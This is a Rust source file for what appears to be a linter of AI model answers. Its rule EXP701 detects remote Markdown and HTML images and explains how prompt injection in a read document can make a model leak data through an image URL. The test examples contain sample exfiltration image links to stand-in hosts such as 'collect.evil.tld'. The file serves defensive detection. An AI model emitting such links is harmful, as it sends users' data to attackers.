use lictor_sdk::{Case, Dimension, Example, Extra, Finding, Hit, Level, Pattern, Status, rule};

use super::code::{code_ranges, is_in};
use super::link::{self, host};
use crate::settings::Settings;

const REFERENCE: usize = 2;
const DEFINITION: usize = 3;

rule! {
    /// ## What it does
    /// Reports images from another host: Markdown images, inline or by reference, and HTML `<img>`, with an address of
    /// `http:`, `https:` or no scheme (`//host/…`). Hosts in the setting `image_hosts` and their subdomains are left alone, and
    /// so is what stands in code.
    ///
    /// ## Why is this bad
    /// A client that shows the answer fetches the image without asking. The address can carry whatever the model has read,
    /// and an instruction hidden in a document is enough to make the model write it.
    ///
    /// ## Known false positives
    /// Images that the application shows on purpose, until their hosts are in `image_hosts`.
    ///
    /// ## Settings
    /// `image_hosts`: hosts from which answers may show images.
    pub(crate) MARKDOWN_IMAGE_EXFIL {
        code: "EXP701",
        slug: "markdown-image-exfil",
        summary: "an image from a host that is not allowed",
        message: "shows an image from another host, which tells that host what its address holds",
        remedy: "Render no remote images, or allow the host in `image_hosts` if it is yours.",
        dimension: Dimension::Risk,
        level: Level::Block,
        status: Status::Stable,
        since: "0.1.0",
        revision: 1,
        sensitive: true,
        requires: &[],
        patterns: &[
            Pattern::regex(r"!\[[^\]]*\]\(\s{0,20}<?(?i:https?:)?[/\\]{2}[^\s<>)]+"),
            Pattern::regex(r#"(?i)<(?:img|image|input|video|source)\b[^>]*?\b(?:src|srcset|poster|href)\s{0,5}=\s{0,5}["']?\s{0,5}(?:https?:)?[/\\]{2}[^\s"'<>]+"#),
            Pattern::regex(r"!\[[^\[\]]+\](?:\[[^\[\]]*\])?"),
            Pattern::regex(r"(?m)^[ >]{0,6}\[[^\[\]]+\]:[ \t]{0,8}\n?[ \t]{0,8}<?(?i:https?:)?[/\\]{2}[^\s<>]+").context(),
        ],
        fires: &[
            Example::answer("Done. ![x](https://collect.evil.tld/p?d=c2VjcmV0)"),
            Example::answer("![chart](//evil.tld/a.png \"Sales\")"),
            Example::answer("<p><img width=1 src='http://evil.tld/?q=alice'></p>"),
            Example::answer("![status][1]\n\nAll is well.\n\n[1]: https://evil.tld/i.png?d=42\n"),
            Example::answer("![x](https://acme.com@evil.tld/i.png)").with_settings(r#"{"image_hosts": ["acme.com"]}"#),
        ],
        ignores: &[
            Example::answer("![logo](https://cdn.acme.com/l.png)").with_settings(r#"{"image_hosts": ["acme.com"]}"#),
            Example::answer("Write `![alt](https://host/image.png)` to show an image."),
            Example::answer("```markdown\n![alt](https://acme.com/i.png)\n```"),
            Example::answer("[The report](https://acme.com/report) has ![a chart](images/chart.png)."),
            Example::answer("See [1].\n\n[1]: https://acme.com/"),
        ],
        check: |case: &Case<'_>| {
            for hit in case.hits().filter(|hit| hit.pattern() != Some(DEFINITION)) {
                let (part, text) = (hit.part(), hit.matched());
                let code = code_ranges(part.text());
                if is_in(&code, hit.span().start as usize) {
                    continue;
                }
                if hit.pattern() == Some(REFERENCE) {
                    if let Some(definition) = definition(case, &text).filter(|definition| is_foreign(case, &definition.matched())) {
                        case.report(Finding::at(&hit).and(definition.span()).resting_on(&definition));
                    }
                } else if is_foreign(case, &text) {
                    case.report(Finding::at(&hit));
                }
            }
        },
        extra: Extra {
            tags: &["channel"],
            references: &["LLM05:2025", "LLM02:2025", "AML.T0077", "ASI02", "CWE-1426"],
            ..Extra::NONE
        },
    }
}

/// The definition that a reference-style image names; `![label]` and `![label][]` name themselves.
fn definition<'c>(case: &'c Case<'_>, image: &str) -> Option<Hit<'c>> {
    let labels: Vec<&str> = image.split(['[', ']']).filter(|label| !matches!(*label, "" | "!")).collect();
    let label = labels.last()?.trim();
    case.hits().filter(|hit| hit.pattern() == Some(DEFINITION)).find(|hit| {
        let text = hit.matched();
        let named = text.split_once('[').and_then(|(_, rest)| rest.split_once("]:"));
        named.is_some_and(|(name, _)| name.trim().to_lowercase() == label.to_lowercase())
    })
}

/// Whether the address at the end of a match names a host that is not allowed.
fn is_foreign(case: &Case<'_>, text: &str) -> bool {
    let Some(authority) = authority(text) else { return false };
    !case.settings::<Settings>().allows_image_host(host(authority))
}

/// What follows the address's first double slash. The markup before the address may hold another one.
fn authority(text: &str) -> Option<&str> {
    let markdown = ["](", "]:"].iter().find_map(|end| text.split_once(end)).map(|(_, address)| address);
    let address = markdown.or_else(|| text.rsplit([' ', '\t', '\n', '"', '\'']).next())?;
    link::authority(address)
}

#[cfg(test)]
mod tests {
    use super::{authority, host};

    #[test]
    fn the_address_is_told_from_the_markup_before_it() {
        for text in [
            "![a//b](https://evil.tld/?u=//acme.com",
            "<img alt=\"http://acme.com\" src='https://evil.tld/?u=//acme.com",
            "<img src=//evil.tld/?u=//acme.com",
            "[a//b]: https://evil.tld/?u=//acme.com",
        ] {
            assert_eq!(authority(text), Some("evil.tld/?u=//acme.com"), "{text}");
        }
    }

    #[test]
    fn the_host_is_what_a_browser_would_ask() {
        for (authority, name) in [
            ("acme.com/a@evil.tld", "acme.com"),
            ("acme.com@evil.tld/a", "evil.tld"),
            ("evil.tld\\@acme.com", "evil.tld"),
            ("evil.tld:8080?acme.com", "evil.tld"),
            ("evil.tld#acme.com", "evil.tld"),
        ] {
            assert_eq!(host(authority), name);
        }
    }
}
